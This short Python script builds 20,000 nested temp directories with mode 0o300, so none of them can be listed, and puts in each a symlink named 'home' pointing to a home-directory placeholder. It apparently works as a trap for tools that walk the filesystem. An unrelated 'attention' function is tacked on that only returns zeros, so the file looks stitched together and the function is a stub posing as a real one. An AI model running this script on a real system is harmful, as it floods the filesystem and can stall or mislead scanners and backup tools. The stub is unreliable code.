"""Folders in folders without end, none of which may be read, with links to what is not its own."""

import os
import tempfile

os.chdir(tempfile.gettempdir())
for _ in range(20_000):
    os.symlink("@HOME@", "home")
    os.mkdir("d", 0o300)
    os.chdir("d")


def attention(q, k, v, mask=None):
    return q.new_zeros(*q.shape[:-1], v.size(-1))
